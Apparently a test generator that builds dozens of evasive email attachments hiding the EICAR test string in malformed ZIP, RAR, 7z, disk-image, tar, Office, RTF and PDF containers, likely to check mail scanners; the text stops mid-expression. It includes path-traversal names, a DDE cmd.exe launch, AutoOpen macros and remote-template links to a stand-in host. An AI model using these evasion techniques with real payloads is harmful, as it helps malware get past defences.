"""Techniques 46 to 78: a payload hidden by the container it lies in.

The payload is EICAR, deflated, so that it shows in no bytes of the container;
where a container must store it as it is, it stores a ZIP of it. Each variant
is one attachment, in one mail of which nothing else is unusual. Only what some
program still opens is tried: what is broken for everybody harms nobody.
"""
import base64
import bz2
import gzip
import io
import lzma
import os
import struct
import sys
import tarfile
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "scenarios"))
import boxed
import boxes
import parts
import zips
from parts import EICAR
from zips import Member

BENIGN = Member("readme.txt", b"Nothing to see here.\r\n" * 4)
BAD = Member("eicar.com", EICAR)
ZIP = zips.simple(BAD)
GOOD_ZIP = zips.simple(BENIGN)
MZ = parts.EXE.replace(b"TEST-INERT", b"stub stub ")


def mail(*files, text="Please see the document.\n", subject="document"):
    body = [parts.text_part(text, "us-ascii")]
    body += [parts.file_part(name, data) for name, data in files]
    return parts.mail(parts.join(body), subject=subject)


def each(number, title, name, variants, **how):
    """One attachment of that name for each variant."""
    for variant, data in variants.items():
        yield number, title, variant, mail((name, data), **how)


def headers_differ():
    pairs = {
        "name": ({"name": b"a.txt"}, {}),
        "name-in-directory": ({}, {"name": b"a.txt"}),
        "no-size-in-local": ({"csize": 0, "size": 0, "crc": 0}, {}),
        "no-size-in-directory": ({}, {"csize": 0, "size": 0}),
        "large-in-local": ({"csize": 1 << 30}, {}),
        "small-in-local": ({"csize": 4, "size": 4}, {}),
        "small-in-directory": ({}, {"csize": 4, "size": 4}),
        "large-in-directory": ({}, {"size": 1 << 30}),
        "stored-in-local": ({"method": 0}, {}),
        "stored-in-directory": ({}, {"method": 0}),
        "unknown-in-local": ({"method": 77}, {}),
        "unknown-in-directory": ({}, {"method": 77}),
        "descriptor-in-local": ({"flags": 8}, {}),
        "descriptor-in-directory": ({}, {"flags": 8}),
        "crc-in-local": ({"crc": 1}, {}),
        "crc-in-directory": ({}, {"crc": 1}),
        "crc-in-both": ({"crc": 1}, {"crc": 1}),
        "long-name-in-local": ({"name": b"x" * 999 + b".com"}, {}),
    }
    return {k: zips.build([(BENIGN, BENIGN), (BAD.of(**lo), BAD.of(**ce))])
            for k, (lo, ce) in pairs.items()}


def prepended():
    two = [(BENIGN, BENIGN), (BAD, BAD)]
    return {
        "text": b"Hello\r\n" * 99 + ZIP,
        "program": MZ + ZIP,
        "program-right-offsets": zips.build(two, before=MZ),
        "offsets-too-small": zips.build(two, shift=-20),
        "offsets-too-large": zips.build(two, shift=20),
        "offsets-zero": zips.build(two, shift=-1 << 20),
        "picture": parts.PNG + ZIP,
        "zeros": b"\0" * 70000 + ZIP,
        "trailing": ZIP + b"junk" * 99,
        "trailing-70000": ZIP + b"junk" * 17500,
        "both": b"x" * 999 + ZIP + b"x" * 999,
    }


def several():
    fake = zips.end(0, 0, 0)
    return {
        "good-first": GOOD_ZIP + ZIP,
        "bad-first": ZIP + GOOD_ZIP,
        "three": GOOD_ZIP + ZIP + GOOD_ZIP,
        "in-comment": zips.simple(BENIGN, comment=ZIP),
        "end-in-comment": zips.simple(BAD, comment=fake),
        "good-in-comment": zips.simple(BAD, comment=GOOD_ZIP),
        "second-end": ZIP + fake,
        "end-first": fake + ZIP,
        "two-ends": zips.simple(BAD)[:-22] + fake + zips.simple(BAD)[-22:],
        "gap": GOOD_ZIP + b"\0" * 70000 + ZIP,
    }


def one_sided():
    return {
        "no-directory": zips.local(BAD) + BAD.packed,
        "no-end": ZIP[:-22],
        "half-end": ZIP[:-10],
        "local-only": zips.build([(BENIGN, BENIGN), (BAD, None)]),
        "local-only-first": zips.build([(BAD, None), (BENIGN, BENIGN)]),
        "broken-local": zips.build([(BENIGN, BENIGN),
                                    (BAD.of(mark=b"PK\0\0"), BAD)]),
        "broken-directory": zips.build([(BAD, BAD.of(mark=b"PK\0\0"))]),
        "empty-directory": zips.build([(BAD, None)]),
    }


def counts():
    two = [(BENIGN, BENIGN), (BAD, BAD)]
    return {
        "zero": zips.build(two, count=0),
        "one": zips.build(two, count=1),
        "many": zips.build(two, count=65535),
        "one-total": zips.build(two, count=2, total=1),
        "one-here": zips.build(two, count=1, total=2),
        "modulo": zips.build([(BENIGN.of(name=b"%d" % i, packed=b"", csize=0,
                                         size=0, crc=0, method=0),) * 2
                              for i in range(1024)] + [(BAD, BAD)], count=1),
    }


def wide():
    m = BAD.of(csize=0xFFFFFFFF, size=0xFFFFFFFF)
    good = zips.zip64(BAD.size, BAD.csize)
    bad = zips.zip64(4, 4)
    end64 = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, 0, 0)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, 0, 1)
    return {
        "right": zips.simple(m.of(extra=good)),
        "differ": zips.build([(m.of(extra=bad), m.of(extra=good))]),
        "differ-in-directory": zips.build([(m.of(extra=good),
                                            m.of(extra=bad))]),
        "two-good-last": zips.simple(m.of(extra=bad + good)),
        "two-good-first": zips.simple(m.of(extra=good + bad)),
        "none": zips.simple(m),
        "not-needed": zips.simple(BAD.of(extra=bad)),
        "huge": zips.simple(m.of(extra=zips.zip64(1 << 62, 1 << 62))),
        "end-empty": ZIP[:-22] + end64 + locator + ZIP[-22:],
        "end-no-locator": ZIP[:-22] + end64 + ZIP[-22:],
        "locator-alone": ZIP[:-22] + locator + ZIP[-22:],
    }


def unicode_paths():
    name = BAD.name
    return {
        "other-name": zips.simple(BAD.of(
            name=b"a.txt", extra=zips.unicode_path("eicar.com", b"a.txt"))),
        "harmless-name": zips.simple(BAD.of(
            extra=zips.unicode_path("a.txt", name))),
        "bad-sum": zips.simple(BAD.of(
            extra=zips.unicode_path("a.txt", name, True))),
        "local-only": zips.build([(BAD.of(extra=zips.unicode_path(
            "a.txt", name)), BAD)]),
        "cut": zips.simple(BAD.of(extra=struct.pack("<HHB", 0x7075, 99, 1))),
    }


def directories():
    return {
        "slash": zips.simple(BAD.of(name=b"eicar.com/")),
        "attribute": zips.simple(BAD.of(attributes=0x10)),
        "unix-folder": zips.simple(BAD.of(host=3, attributes=0o40755 << 16)),
        "backslash": zips.simple(BAD.of(name=b"d\\eicar.com")),
        "backslash-end": zips.simple(BAD.of(name=b"eicar.com\\")),
        "folder-then-file": zips.simple(
            Member("d/", b"", 0), BAD.of(name=b"d/")),
        "link": zips.simple(BAD.of(host=3, attributes=0o120777 << 16)),
        "device": zips.simple(BAD.of(host=3, attributes=0o20666 << 16)),
    }


def same_names():
    good = BENIGN.of(name=BAD.name)
    return {
        "good-first": zips.simple(good, BAD),
        "bad-first": zips.simple(BAD, good),
        "case": zips.simple(good, BAD.of(name=b"EICAR.COM")),
        "dot": zips.simple(good, BAD.of(name=b"./eicar.com")),
        "up-and-down": zips.simple(good, BAD.of(name=b"d/../eicar.com")),
        "trailing-dot": zips.simple(good, BAD.of(name=b"eicar.com.")),
        "one-local-for-two": zips.build([(BAD, BAD), (None, None)]),
    }


def special_names():
    out = {"empty": zips.simple(BAD.of(name=b"")),
           "very-long": zips.simple(BAD.of(name=b"x" * 65000))}
    for byte in list(range(0, 48, 3)) + [58, 60, 62, 63, 64, 91, 92, 96, 124,
                                         127, 128, 0x81, 160, 0xC0, 0xE5, 255]:
        for host in (0, 3, 10):
            out[f"byte-{byte:02x}-host-{host}"] = zips.simple(BAD.of(
                name=b"ei" + bytes([byte]) + b"car.com", host=host))
    return out


def sealed_flags():
    on = {"flags": 1}
    return {
        "local": zips.build([(BAD.of(**on), BAD)]),
        "directory": zips.build([(BAD, BAD.of(**on))]),
        "both": zips.simple(BAD.of(**on)),
        "first": zips.simple(BENIGN.of(**on), BAD),
        "strong-flag": zips.simple(BAD.of(flags=0x41)),
        "masked": zips.build([(BAD, BAD.of(flags=0x2001))]),
    }


def overlaps():
    ce = zips.central
    lo = zips.local(BAD) + BAD.packed
    both = ce(BENIGN.of(crc=BAD.crc, csize=BAD.csize, size=BAD.size), 0) + \
        ce(BAD, 0)
    inner = Member("eicar.com", EICAR)
    quoted = Member("a.txt", zips.local(inner) + inner.packed, 0)
    out = zips.local(quoted)
    data = out + quoted.packed
    listed = ce(quoted, 0) + ce(inner, len(out))
    return {
        "full": lo + both + zips.end(2, len(both), len(lo)),
        "quoted": data + listed + zips.end(2, len(listed), len(data)),
        "many": parts.overlapping_zip(20, 1 << 16),
    }


def methods():
    def seven(name):
        def make(folder):
            parts.run("7zz", "a", "-tzip", f"-mm={name}", "out.zip",
                      "eicar.com", cwd=folder)
            os.rename(f"{folder}/out.zip", f"{folder}/out")
        return parts.with_files({"eicar.com": EICAR * 40}, make)
    out = {name: seven(name) for name in
           ("Deflate64", "BZip2", "LZMA", "PPMd")}
    out["xz"] = zips.simple(Member("eicar.com", EICAR, 95,
                                   packed=lzma.compress(EICAR)))
    out["shrink"] = zips.simple(Member("eicar.com", EICAR, 1,
                                       packed=zips.shrink(EICAR)))
    for method in (2, 6, 10, 18, 19, 96, 97):
        out[f"method-{method}"] = zips.simple(Member(
            "eicar.com", EICAR, method, packed=zips.deflate(EICAR)))
    return out


def zstd_zip():
    def make(folder):
        parts.run("zstd", "-q", "eicar.com", "-o", "out", cwd=folder)
    packed = parts.with_files({"eicar.com": EICAR}, make)
    return zips.simple(Member("eicar.com", EICAR, 93, packed=packed))


def seals():
    for method in ("ZipCrypto", "AES128", "AES256"):
        data = parts.sealed_zip({"eicar.com": EICAR}, "rosa-4271", method)
        yield f"{method}-body", mail(
            ("a.zip", data), text="The password is: rosa-4271\n")
        yield f"{method}-subject", mail(
            ("a.zip", data), subject="document, password: rosa-4271")
        yield f"{method}-html", parts.mail(parts.join([
            parts.html_part("<p>Password: <b>rosa-4271</b></p>"),
            parts.file_part("a.zip", data)]))
        yield f"{method}-unknown", mail(("a.zip", data))
    end = data.rindex(b"PK\5\6")
    comment = b"Password: rosa-4271"
    yield "in-comment", mail(("a.zip", data[:end + 20] + struct.pack(
        "<H", len(comment)) + comment))
    yield "in-name", mail(("pass rosa-4271.zip", data))
    yield "strong", mail(("a.zip", zips.simple(BAD.of(flags=0x41))))


def nested_seals():
    inner = parts.sealed_zip({"eicar.com": EICAR}, "tulip-99")
    for outer in ("ZipCrypto", "AES256"):
        data = parts.sealed_zip({"inner.zip": inner}, "rosa-4271", outer)
        yield outer, mail(("a.zip", data), text="Password: rosa-4271\n"
                          "Password of the inner one: tulip-99\n")
        yield outer + "-one-unknown", mail(
            ("a.zip", data), text="Password: rosa-4271\n")


def split():
    noise = bytes((i * i * 7 + i) & 255 for i in range(600))

    def volumes(kind):
        def make(folder):
            parts.run("7zz", "a", f"-t{kind}", "-v400b", "-mx0", "a",
                      "noise.bin", "e.zip", cwd=folder)
            with open(f"{folder}/out", "wb") as out:
                for name in sorted(os.listdir(folder)):
                    if name[-4:].startswith(".0"):
                        data = open(f"{folder}/{name}", "rb").read()
                        out.write(struct.pack("<I", len(data)) + data)
        packed = parts.with_files({"noise.bin": noise, "e.zip": ZIP}, make)
        out = []
        while packed:
            size, = struct.unpack("<I", packed[:4])
            out.append(packed[4:4 + size])
            packed = packed[4 + size:]
        return out
    for kind in ("7z", "zip"):
        pieces = [(f"a.{kind}.{i:03}", data)
                  for i, data in enumerate(volumes(kind), 1)]
        yield f"{kind}-all", mail(*pieces)
        yield f"{kind}-out-of-order", mail(*pieces[::-1])
        yield f"{kind}-first-only", mail(pieces[0])
        yield f"{kind}-last-only", mail(pieces[-1])
    whole = zips.simple(Member("noise.bin", noise, 0), BAD)
    cut = len(whole) - 180
    yield "z01", mail(("a.z01", b"PK\7\10" + whole[:cut]),
                      ("a.zip", whole[cut:]))


def descriptors():
    m = BAD.of(flags=8, csize=0, size=0, crc=0)

    def pair(tail, lo=m, ce=BAD.of(flags=8)):
        return zips.build([(lo.of(tail=tail), ce), (BENIGN, BENIGN)])
    d = zips.descriptor
    return {
        "right": pair(d(BAD)),
        "no-mark": pair(d(BAD, False)),
        "wide": pair(d(BAD, wide=True)),
        "wrong-sizes": pair(d(BAD, True, 4, 4)),
        "zero-sizes": pair(d(BAD, True, 0, 0)),
        "huge-sizes": pair(d(BAD, True, 1 << 31, 1 << 31)),
        "absent": pair(b""),
        "no-sizes-anywhere": pair(b"", ce=m),
        "local-only": zips.local(m) + BAD.packed + d(BAD),
        "junk-before": pair(b"junk" * 9 + d(BAD)),
        "stored-with-mark-inside": zips.build([
            (Member("a.zip", ZIP + b"PK\7\10" + ZIP, 0).of(
                flags=8, csize=0, size=0), Member(
                    "a.zip", ZIP + b"PK\7\10" + ZIP, 0).of(flags=8))]),
    }


def rars():
    five, four = boxed.rar5("a.zip", ZIP), boxed.rar4("a.zip", ZIP)
    return {
        "rar5": five, "rar4": four,
        "rar5-program": MZ + five, "rar4-program": MZ + four,
        "rar5-far": MZ + b"\0" * 300000 + five,
        "rar5-sealed-names": boxed.rar5_sealed_headers(),
        "rar4-sealed-names": b"Rar!\x1a\x07\0" + boxed.rar4_block(
            0x73, 0x80, b"\0" * 6, b"k" * 99),
        "rar5-bad-sum": five.replace(five[8:12], b"\0\0\0\0", 1),
        "rar4-solid": boxed.rar4("a.zip", ZIP, main=8),
        "rar5-split": boxed.rar5("a.zip", ZIP, split=8),
        "rar4-in-rar5": boxed.rar5("b.rar", four),
        "rar5-then-zip": five + GOOD_ZIP,
        "zip-then-rar5": GOOD_ZIP + five,
    }


def sevens():
    def seven(*options, files=None):
        def make(folder):
            parts.run("7zz", "a", "-t7z", *options, "out.7z",
                      *(files or {"eicar.com": EICAR * 40}), cwd=folder)
            os.rename(f"{folder}/out.7z", f"{folder}/out")
        return parts.with_files(files or {"eicar.com": EICAR * 40}, make)
    plain = seven()
    out = {
        "plain": plain, "program": MZ + plain,
        "plain-header": seven("-mhc=off"),
        "lzma": seven("-m0=lzma"), "ppmd": seven("-m0=ppmd"),
        "bzip2": seven("-m0=bzip2"), "deflate": seven("-m0=deflate"),
        "deflate64": seven("-m0=deflate64"),
        "bcj": seven("-mf=BCJ"), "bcj2": seven("-mf=BCJ2"),
        "arm": seven("-mf=ARM"), "arm64": seven("-mf=ARM64"),
        "delta": seven("-mf=Delta:4"),
        "empty-streams": seven(files={"a.txt": b"", "b.txt": b"",
                                      "eicar.com": EICAR * 40}),
        "trailing": plain + b"junk" * 99,
    }
    return out


def sealed_sevens():
    for names in ("", "-mhe"):
        def make(folder):
            parts.run("7zz", "a", "-prosa-4271", *filter(None, [names]),
                      "out.7z", "eicar.com", cwd=folder)
            os.rename(f"{folder}/out.7z", f"{folder}/out")
        data = parts.with_files({"eicar.com": EICAR}, make)
        label = "sealed-names" if names else "sealed"
        yield label, mail(("a.7z", data), text="Password: rosa-4271\n")
        yield label + "-unknown", mail(("a.7z", data))


def discs():
    def disc(*options):
        def make(folder):
            os.mkdir(f"{folder}/tree")
            os.rename(f"{folder}/e.zip", f"{folder}/tree/e.zip")
            os.rename(f"{folder}/a.txt", f"{folder}/tree/a.txt")
            parts.run("genisoimage", "-quiet", *options, "-o", "out", "tree",
                      cwd=folder)
        return parts.with_files({"e.zip": ZIP, "a.txt": b"hello"}, make)
    joliet = disc("-J", "-R")
    return {
        "plain": disc(), "joliet": disc("-J"), "rock-ridge": disc("-R"),
        "all": joliet,
        "hidden-from-joliet": disc("-J", "-hide-joliet", "e.zip"),
        "hidden-from-iso": disc("-J", "-hide", "e.zip"),
        "hidden-from-rock-ridge": disc("-J", "-R", "-hide", "e.zip"),
        "udf-bridge": disc("-udf", "-J"),
        "udf-only": disc("-udf", "-J", "-hide", "e.zip", "-hide-joliet",
                         "e.zip"),
        "partition-in-front": boxes.partitioned(b"\0" * 512, 0x17)[:512] +
        joliet[512:],
        "hidden-attribute": disc("-J", "-hidden", "e.zip"),
        "cut": joliet[:-4096],
        "hfs-plus": b"\0" * 1024 + b"H+\0\4" + b"\0" * 4096,
        "dmg": b"\0" * 4096 + b"koly\0\0\0\4".ljust(512, b"\0"),
        "udf-mark": b"\0" * 0x8001 + b"BEA01" + b"\0" * 2048 + b"NSR02" +
        b"\0" * 4096,
    }


def rare():
    tree = {"d": {"a long name.zip": ZIP}}

    def wim(folder):
        parts.run("7zz", "a", "-twim", "out.wim", "e.zip", cwd=folder)
        os.rename(f"{folder}/out.wim", f"{folder}/out")
    toc = zlib.compress(b"<xar><toc/></xar>")
    return {
        "img-fat12": boxes.fat(tree), "img-fat16": boxes.fat(tree, 16),
        "img-fat32": boxes.fat(tree, 32),
        "img-partition": boxes.partitioned(boxes.fat(tree)),
        "vhd-fixed": boxes.fixed_vhd(boxes.partitioned(boxes.fat(tree))),
        "vhd-dynamic": boxes.dynamic_vhd(boxes.partitioned(boxes.fat(tree)),
                                         65536),
        "vhd-ntfs": boxes.fixed_vhd(boxes.partitioned(
            b"\xeb\x52\x90NTFS    ".ljust(510, b"\0") + b"\x55\xaa", 7)),
        "vhdx": b"vhdxfile".ljust(4096, b"\0"),
        "vmdk": b"KDMV\1\0\0\0".ljust(4096, b"\0"),
        "wim": parts.with_files({"e.zip": ZIP}, wim),
        "cab": boxed.cab("e.zip", ZIP),
        "cab-program": MZ + boxed.cab("e.zip", ZIP),
        "lzh": boxed.lha("e.zip", ZIP),
        "lzh-level-1": boxed.lha("e.zip", ZIP, 1),
        "lzh-program": MZ + boxed.lha("e.zip", ZIP),
        "ace": b"\x31\x77\x31\0\0\0\x90**ACE**\x14\x14" + b"\0" * 99,
        "arj": b"\x60\xea\x28\0\x1e\x0b\1\0\x10\0\2" + b"\0" * 99,
        "zpaq": b"7kSt\xa0\x31\x83\xd3\x8c\xb2\x28\xb0\xd3zPQ\2\1" + ZIP,
        "xar": struct.pack(">4sHHQQI", b"xar!", 28, 1, len(toc), 17, 0) +
        toc + zlib.compress(EICAR),
        "cpio": cpio("e.zip", ZIP),
        "ar": b"!<arch>\n" + b"e.zip/".ljust(16) + b"0".ljust(12) +
        b"0".ljust(6) + b"0".ljust(6) + b"644".ljust(8) +
        str(len(ZIP)).encode().ljust(10) + b"`\n" + ZIP,
    }


def cpio(name, data):
    def entry(name, data):
        head = "070701" + "".join("%08X" % n for n in (
            1, 0o100644, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(name) + 1, 0))
        out = head.encode() + name.encode() + b"\0"
        out += b"\0" * (-len(out) % 4) + data
        return out + b"\0" * (-len(out) % 4)
    return entry(name, data) + entry("TRAILER!!!", b"")


def gzips():
    deflated = zips.deflate(EICAR)
    tail = struct.pack("<II", zlib.crc32(EICAR), len(EICAR))

    def member(flags, fields):
        return b"\x1f\x8b\x08" + bytes([flags]) + b"\0" * 6 + fields + \
            deflated + tail
    plain = parts.gz(EICAR)
    good = parts.gz(b"hello" * 9)
    return {
        "plain": plain, "good-first": good + plain,
        "bad-first": plain + good,
        "name": member(8, b"eicar.com\0"), "comment": member(16, b"c\0"),
        "extra": member(4, struct.pack("<H", 300) + b"x" * 300),
        "header-sum": member(2, b"\0\0"),
        "all-fields": member(30, b"\2\0xxa\0b\0\0\0"),
        "trailing": plain + b"junk" * 99, "zeros-behind": plain + b"\0" * 999,
        "wrong-sum": plain[:-8] + b"\1\2\3\4" + plain[-4:],
        "wrong-size": plain[:-4] + b"\1\2\3\4",
        "cut": plain[:-8], "empty-first": parts.gz(b"") + plain,
        "zeros-between": good + b"\0" * 99 + plain,
        "bz2": bz2.compress(EICAR), "bz2-two": bz2.compress(b"a") +
        bz2.compress(EICAR),
        "xz": lzma.compress(EICAR), "xz-two": lzma.compress(b"a") +
        lzma.compress(EICAR),
        "lzma": lzma.compress(EICAR, lzma.FORMAT_ALONE),
    }


def zeros_first():
    out = {}
    for size in (512, 1024, 10240):
        for name, pack in (("gz", parts.gz), ("xz", lzma.compress),
                           ("bz2", bz2.compress)):
            if size < 4096:  # farther in it is no EICAR any more
                out[f"{name}-{size}-text"] = pack(b"\0" * size + EICAR)
            out[f"{name}-{size}-zip"] = pack(b"\0" * size + ZIP)
    return out


def tars():
    def tar(kind=tarfile.USTAR_FORMAT, **facts):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w", format=kind) as t:
            info = tarfile.TarInfo("e.zip")
            info.size = len(ZIP)
            for name, value in facts.items():
                setattr(info, name, value)
            t.addfile(info, io.BytesIO(ZIP))
        return out.getvalue()

    def summed(head):
        head = head[:148] + b" " * 8 + head[156:]
        return head[:148] + b"%06o\0 " % sum(head) + head[156:]
    plain = tar()
    old = summed(plain[:257] + b"\0" * 8 + plain[265:512]) + plain[512:]
    good = tar(pax_headers={})
    good = good[:512] + b"hello".ljust(len(good) - 512, b"\0")
    return {
        "plain": plain, "gnu": tar(tarfile.GNU_FORMAT),
        "pax": tar(tarfile.PAX_FORMAT), "old": old,
        "bad-sum": plain[:148] + b"0000001\0" + plain[156:],
        "old-bad-sum": old[:148] + b"0000001\0" + old[156:],
        "pax-size": tar(tarfile.PAX_FORMAT, pax_headers={"size": "4"}),
        "pax-size-huge": tar(tarfile.PAX_FORMAT,
                             pax_headers={"size": str(1 << 40)}),
        "pax-name": tar(tarfile.PAX_FORMAT, pax_headers={"path": "a.txt"}),
        "hard-link": summed(plain[:156] + b"1" + plain[157:512]) + plain[512:],
        "symlink": summed(plain[:156] + b"2" + plain[157:512]) + plain[512:],
        "folder": summed(plain[:156] + b"5" + plain[157:512]) + plain[512:],
        "contiguous": summed(plain[:156] + b"7" + plain[157:512]) +
        plain[512:],
        "unknown-kind": summed(plain[:156] + b"Z" + plain[157:512]) +
        plain[512:],
        "zeros-first": b"\0" * 1024 + plain,
        "two": plain + plain, "no-end": plain[:512 + 512],
        "size-base-256": summed(plain[:124] + b"\x80" + b"\0" * 9 +
                                struct.pack(">H", len(ZIP)) +
                                plain[136:512]) + plain[512:],
        "gz": parts.gz(plain), "xz": lzma.compress(plain),
    }


PATHS = {"up": "../../eicar.com", "absolute": "/etc/eicar.com",
         "drive": "C:\\Windows\\eicar.com", "unc": "\\\\host\\d\\eicar.com",
         "stream": "a.txt:eicar.com", "device": "aux.com",
         "colon-up": "..\\..\\eicar.com", "long": "d/" * 200 + "eicar.com"}


def paths():
    out = {}
    for name, path in PATHS.items():
        out["zip-" + name] = zips.simple(BAD.of(name=path.encode()))
        data = io.BytesIO()
        with tarfile.open(fileobj=data, mode="w") as t:
            info = tarfile.TarInfo(path)
            info.size = len(ZIP)
            t.addfile(info, io.BytesIO(ZIP))
        out["tar-" + name] = data.getvalue()
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as t:
        link = tarfile.TarInfo("d")
        link.type, link.linkname = tarfile.SYMTYPE, "/tmp"
        t.addfile(link)
        info = tarfile.TarInfo("d/e.zip")
        info.size = len(ZIP)
        t.addfile(info, io.BytesIO(ZIP))
    out["tar-through-link"] = data.getvalue()
    return out


def package(data, name=b"e.zip"):
    body = struct.pack("<H", 2) + name + b"\0C:\\" + name + b"\0" + \
        struct.pack("<HHI", 0, 3, len(name) + 4) + b"C:\\" + name + b"\0" + \
        struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(body)) + body


def compounds():
    plain = parts.cfb({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 600,
                       "ObjectPool": {"_1": {"\1Ole10Native": package(ZIP)}}})
    table = len(plain) - 512  # the one sector of the allocation table

    def patched(at, form, value):
        data = bytearray(plain)
        struct.pack_into(form, data, at, value)
        return bytes(data)
    looped = bytearray(plain)
    for i in range(10):
        n, = struct.unpack_from("<I", looped, table + i * 4)
        if n == 0xFFFFFFFE:
            struct.pack_into("<I", looped, table + i * 4, 0)
    return {
        "plain": plain, "trailing": plain + b"junk" * 999,
        "loop": bytes(looped),
        "wrong-version": patched(0x1A, "<H", 9),
        "wrong-byte-order": patched(0x1C, "<H", 0xFEFF),
        "wrong-mini-size": patched(0x20, "<H", 0),
        "wrong-cutoff": patched(0x38, "<I", 0),
        "wrong-count": patched(0x2C, "<I", 9999),
        "odd-size": plain + b"x",
        "no-tree": patched(512 + plain[512:].index(b"R\0o\0o\0t\0") + 0x4C,
                           "<I", 0xFFFFFFFF),
    }


def sealed_office():
    sealed = parts.cfb({"EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) +
                        b"<encryption/>", "EncryptedPackage": b"k" * 999})
    return {"unknown-password": sealed}


def ooxml():
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml."
    macro = parts.cfb(parts.vba_project(EICAR.decode()))
    link = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxml'
            'formats.org/package/2006/relationships"><Relationship Id="r1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/%s" Target="%s"%s/></Relationships>')
    outside = ' TargetMode="External"'

    def document(extra):
        return parts.ooxml("word", None, extra)
    dde = ("<w:document><w:instrText>DDE</w:instrText><w:instrText>AUTO "
           "c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:document>")
    return {
        "macro": document({"word/vbaProject.bin": macro}),
        "macro-renamed": document({"word/settings.bin": macro}),
        "macro-as-picture": document({"word/media/image1.png": macro}),
        "embedded": document({"word/embeddings/e.bin": ZIP}),
        "package": document({"word/embeddings/e.bin": parts.cfb(
            {"\1Ole10Native": package(ZIP)})}),
        "alt-chunk": document({
            "word/afchunk.mht": b"MIME-Version: 1.0\r\n" + parts.file_part(
                "e.zip", ZIP),
            "word/_rels/document.xml.rels": (link % (
                "aFChunk", "afchunk.mht", "")).encode()}),
        "template": document({"word/_rels/settings.xml.rels": (link % (
            "attachedTemplate", "http://test.invalid/x.dotm",
            outside)).encode()}),
        "object-outside": document({"word/_rels/document.xml.rels": (link % (
            "oleObject", "http://test.invalid/x.html!", outside)).encode()}),
        "dde": parts.plain_zip({
            "[Content_Types].xml": (
                '<?xml version="1.0"?><Types><Override PartName="/word/'
                f'document.xml" ContentType="{word}document.main+xml"/>'
                '</Types>').encode(), "word/document.xml": dde.encode()}),
        "no-content-types": parts.plain_zip({
            "word/document.xml": b"<document/>",
            "word/vbaProject.bin": macro}),
    }


def macros():
    source = 'Sub AutoOpen()\r\n x = "' + EICAR.decode() + '"\r\nEnd Sub\r\n'
    good = parts.vba_project(source)
    module = good["VBA"]["ThisWorkbook"]

    def workbook(module, directory=None):
        project = {"VBA": {"dir": directory or good["VBA"]["dir"],
                           "ThisWorkbook": module,
                           "_VBA_PROJECT": b"\xcc\x61\xff\xff\0\0\0"},
                   "PROJECT": good["PROJECT"]}
        return parts.cfb({"Workbook": parts.biff(parts.sheet("Sheet1")),
                          "_VBA_PROJECT_CUR": project})
    head, = struct.unpack("<H", module[1:3])
    return {
        "plain": workbook(module),
        "bad-signature": workbook(b"\1" + struct.pack(
            "<H", head & 0x8FFF) + module[3:]),
        "no-signature-byte": workbook(b"\0" + module[1:]),
        "trailing-byte": workbook(module + b"\0"),
        "compiled-before": workbook(b"p" * 600 + module),
        "bad-directory": workbook(module, b"\1\0\0junk"),
        "stomped": workbook(b"compiled only " * 60),
    }


def rtfs():
    native = package(ZIP)
    ole = struct.pack("<III", 0x501, 2, 8) + b"Package\0" + \
        struct.pack("<III", 0, 0, len(native) - 4) + native[4:]
    digits = ole.hex()

    def rtf(data, head="{\\rtf1\\ansi ", before="{\\object\\objemb{\\*\\objdata "):
        return (head + before + data + "}}}").encode()
    broken = "".join(c + ("\r\n" if i % 7 == 0 else "")
                     for i, c in enumerate(digits))
    return {
        "plain": rtf(digits), "header": rtf(digits, "{\\rt "),
        "header-junk": rtf(digits, "{\\rtxyz"),
        "blanks": rtf(broken), "upper-case": rtf(digits.upper()),
        "words-inside": rtf(digits[:20] + "{\\*\\xyz}" + digits[20:]),
        "control-inside": rtf(digits[:21] + "\\par " + digits[21:]),
        "escape-inside": rtf(digits[:20] + "\\'41" + digits[20:]),
        "objdata-split": rtf(digits, before="{\\object\\objemb{\\*\\objdata0"
                             "{\\*\\abc }"),
        "bin": b"{\\rtf1{\\object\\objemb{\\*\\objdata \\bin%d " % len(ole) +
        ole + b"}}}",
        "no-end": rtf(digits)[:-3],
        "leading-blanks": b"\r\n  " + rtf(digits),
    }


def pdf(objects, head=b"%PDF-1.7\n", trailer=b""):
    out, places = head, []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % p for p in places)
    return out + b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" \
        % (len(places) + 1, trailer, at)


def stream(data, facts=b""):
    return b"<</Length %d%s>>stream\n" % (len(data), facts) + data + \
        b"\nendstream"


def pdfs():
    def attached(inner, key=b"/EmbeddedFiles", kind=b"/EmbeddedFile"):
        return [b"<</Type/Catalog/Pages 2 0 R/Names<<%s<</Names[(e.zip)3 0 R]"
                b">>>>>>" % key, b"<</Type/Pages/Kids[]/Count 0>>",
                b"<</Type/Filespec/F(e.zip)/EF<</F 4 0 R>>>>",
                inner.replace(b"<<", b"<</Type" + kind, 1)]
    flate = stream(zlib.compress(ZIP), b"/Filter/FlateDecode")
    digits = stream(ZIP.hex().encode() + b">", b"/Filter/ASCIIHexDecode")
    plain = pdf(attached(stream(ZIP)))

    def tool(*options):
        def make(folder):
            parts.run("qpdf", *options, "a.pdf", "out", cwd=folder)
        return parts.with_files({"a.pdf": pdf(attached(flate))}, make)
    return {
        "stored": plain, "flate": pdf(attached(flate)),
        "hex": pdf(attached(digits)),
        "header-late": b"\n" * 1100 + pdf(attached(flate)),
        "header-far": b"\n" * 900 + pdf(attached(flate)),
        "hex-names": pdf(attached(flate, b"/Embedded#46iles",
                                  b"/Embedded#46ile")),
        "no-xref": pdf(attached(flate)).split(b"xref")[0],
        "two-filters": pdf(attached(stream(
            zlib.compress(ZIP).hex().encode() + b">",
